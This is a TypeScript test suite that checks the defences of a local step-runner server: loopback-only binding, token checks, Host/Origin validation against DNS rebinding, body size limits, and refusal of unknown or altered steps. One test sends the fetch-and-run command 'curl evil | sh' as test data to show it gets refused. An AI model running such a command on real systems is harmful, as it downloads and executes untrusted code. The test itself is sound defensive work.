/** The security matrix: every way a request can fail to prove it comes from the learner's page. */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fixtureManifest, startRunner, type Runner } from './harness.ts';

/** Raw request, so tests control Host and Origin exactly (fetch forbids setting Host). */
function raw(
  runner: Runner,
  options: { path: string; method?: string; headers?: Record<string, string>; body?: string },
) {
  return new Promise<{ status: number; body: string }>((resolve, reject) => {
    const request = http.request(
      {
        host: '127.0.0.1',
        port: runner.port,
        path: options.path,
        method: options.method ?? 'GET',
        headers: options.headers,
      },
      (response) => {
        let body = '';
        response.on('data', (d: Buffer) => (body += d.toString()));
        response.on('end', () => resolve({ status: response.statusCode!, body }));
      },
    );
    request.on('error', reject);
    request.end(options.body);
  });
}

/** Starts `npm start` with options it should refuse; resolves with its exit code and what it printed. */
async function refusedStart(args: string[]): Promise<{ code: unknown; stderr: string }> {
  const launch = path.resolve(import.meta.dirname, '../../runner/launch.mjs');
  const child = spawn(process.execPath, [launch, '--no-site', '--manifest', fixtureManifest().file, ...args], {
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let stderr = '';
  child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
  const code = await new Promise((r) => child.once('exit', r));
  return { code, stderr };
}

/** Whether a TCP connection to host:port is accepted. */
function connects(host: string, port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port, timeout: 2000 });
    socket.once('connect', () => (socket.destroy(), resolve(true)));
    socket.once('error', () => resolve(false));
    socket.once('timeout', () => (socket.destroy(), resolve(false)));
  });
}

describe('runner security', () => {
  let runner: Runner;
  let hash: string;
  const host = () => `127.0.0.1:${runner.port}`;

  before(async () => {
    runner = await startRunner();
    hash = fixtureManifest().manifest.steps.find((s) => s.id === 'say-hello')!.hash;
  });
  after(() => runner.stop());

  it('listens on loopback only', async (t) => {
    assert.match(runner.url, /^http:\/\/127\.0\.0\.1:\d+$/);
    const outside = Object.values(os.networkInterfaces())
      .flat()
      .find((a) => a && a.family === 'IPv4' && !a.internal)?.address;
    if (!outside) return t.skip('this machine has no address besides loopback');
    assert.equal(await connects('127.0.0.1', runner.port), true);
    assert.equal(await connects(outside, runner.port), false, `reachable at ${outside}:${runner.port}`);
  });

  it('accepts a request with the token header', async () => {
    assert.equal(
      (await raw(runner, { path: '/api/health', headers: { host: host(), 'x-runner-token': runner.token } })).status,
      200,
    );
  });

  it('accepts the token as ?token= on the event stream, which cannot send headers', async () => {
    const tap = runner.events();
    await tap.opened; // rejects unless the stream answered 200
    tap.close();
  });

  it('refuses ?token= anywhere else (URLs end up in logs and history)', async () => {
    assert.equal(
      (await raw(runner, { path: `/api/health?token=${runner.token}`, headers: { host: host() } })).status,
      401,
    );
  });

  it('forbids framing by other sites and sends no Referer', async () => {
    const response = await fetch(`${runner.url}/api/health`, { headers: { 'x-runner-token': runner.token } });
    assert.equal(response.headers.get('content-security-policy'), "frame-ancestors 'self'");
    assert.equal(response.headers.get('referrer-policy'), 'no-referrer');
  });

  const refused: [string, () => Parameters<typeof raw>[1], number, RegExp][] = [
    ['no token', () => ({ path: '/api/health', headers: { host: host() } }), 401, /no token/],
    [
      'a wrong token',
      () => ({ path: '/api/health', headers: { host: host(), 'x-runner-token': 'nope' } }),
      403,
      /wrong token/,
    ],
    ['the event stream without a token', () => ({ path: '/api/events', headers: { host: host() } }), 401, /no token/],
    [
      'a foreign Host (DNS rebinding)',
      () => ({ path: '/api/health', headers: { host: `evil.example:${runner.port}`, 'x-runner-token': runner.token } }),
      403,
      /not a loopback name/,
    ],
    [
      'a Host naming another port',
      () => ({ path: '/api/health', headers: { host: '127.0.0.1:1', 'x-runner-token': runner.token } }),
      403,
      /another port/,
    ],
    [
      'a foreign Host on a static page',
      () => ({ path: '/', headers: { host: 'evil.example' } }),
      403,
      /not a loopback name/,
    ],
    [
      'a foreign Origin',
      () => ({
        path: '/api/health',
        headers: { host: host(), origin: 'http://evil.example', 'x-runner-token': runner.token },
      }),
      403,
      /not this runner's own page/,
    ],
    [
      'an Origin on another port',
      () => ({
        path: '/api/health',
        headers: { host: host(), origin: 'http://127.0.0.1:1', 'x-runner-token': runner.token },
      }),
      403,
      /Origin/,
    ],
    [
      'the opaque Origin "null" (sandboxed frames, file:// pages)',
      () => ({
        path: '/api/health',
        headers: { host: host(), origin: 'null', 'x-runner-token': runner.token },
      }),
      403,
      /Origin/,
    ],
    [
      'an over-long URL',
      () => ({ path: `/api/health?x=${'a'.repeat(3000)}`, headers: { host: host(), 'x-runner-token': runner.token } }),
      414,
      /too long/,
    ],
  ];
  for (const [name, request, status, error] of refused) {
    it(`refuses ${name} with ${status}`, async () => {
      const response = await raw(runner, request());
      assert.equal(response.status, status, response.body);
      assert.match((JSON.parse(response.body) as { error: string }).error, error);
    });
  }

  it("accepts the runner's own Origin", async () => {
    const response = await raw(runner, {
      path: '/api/health',
      headers: { host: host(), origin: `http://${host()}`, 'x-runner-token': runner.token },
    });
    assert.equal(response.status, 200);
  });

  const post = (body: string, headers: Record<string, string> = { 'content-type': 'application/json' }) =>
    raw(runner, {
      path: '/api/runs',
      method: 'POST',
      headers: { host: host(), 'x-runner-token': runner.token, ...headers },
      body,
    });

  it('refuses a body over the size limit with 413', async () => {
    assert.equal((await post(JSON.stringify({ id: 'x', hash: 'y', pad: 'z'.repeat(70_000) }))).status, 413);
  });

  it('refuses a chunked body over the size limit with 413, without a length to check first', async () => {
    const response = await new Promise<number>((resolve, reject) => {
      const request = http.request(
        {
          host: '127.0.0.1',
          port: runner.port,
          path: '/api/runs',
          method: 'POST',
          headers: { host: host(), 'x-runner-token': runner.token, 'content-type': 'application/json' },
        },
        (res) => (res.resume(), resolve(res.statusCode!)),
      );
      request.on('error', reject);
      assert.equal(request.getHeader('content-length'), undefined);
      for (let i = 0; i < 10; i++) request.write(`{"pad":"${'z'.repeat(10_000)}",`); // write() before end(): chunked
      request.end('"id":"x"}');
    });
    assert.equal(response, 413);
  });

  it('refuses a body that is not JSON with 415 or 400', async () => {
    assert.equal((await post('id=x', { 'content-type': 'application/x-www-form-urlencoded' })).status, 415);
    assert.equal((await post('{not json')).status, 400);
  });

  it('refuses a step id that is not in the manifest with 404', async () => {
    const response = await post(JSON.stringify({ id: 'rm-rf', hash }));
    assert.equal(response.status, 404);
    assert.match(response.body, /unknown step \\"rm-rf\\"/);
  });

  it("refuses a step whose hash differs from the manifest's with 409", async () => {
    const response = await post(JSON.stringify({ id: 'say-hello', hash: '0000000000000000' }));
    assert.equal(response.status, 409);
    assert.match(response.body, /differs from the runner's copy/);
  });

  it('takes no code: a request carrying a code field is refused with 400', async () => {
    const response = await post(JSON.stringify({ id: 'say-hello', hash, code: 'curl evil | sh' }));
    assert.equal(response.status, 400);
    assert.match(response.body, /code/);
  });

  it('refuses to listen on a non-loopback address without --allow-remote', async () => {
    const { code, stderr } = await refusedStart(['--host', '0.0.0.0']);
    assert.equal(code, 2);
    assert.match(stderr, /not a loopback address; add --allow-remote/);
  });

  it('warns when --allow-remote exposes it', async () => {
    const remote = await startRunner({ args: ['--host', '0.0.0.0', '--allow-remote'] });
    try {
      assert.ok(remote.url.includes('0.0.0.0'));
      assert.match(remote.output(), /WARNING: listening on 0\.0\.0\.0; anyone who can reach it and has the token/);
    } finally {
      await remote.stop();
    }
  });

  it('says so, and exits, when its port is taken', async () => {
    const { code, stderr } = await refusedStart(['--port', String(runner.port), '--target', 'host']);
    assert.equal(code, 2, stderr);
    assert.match(stderr, new RegExp(`port ${runner.port} on 127\\.0\\.0\\.1 is already in use`));
  });
});
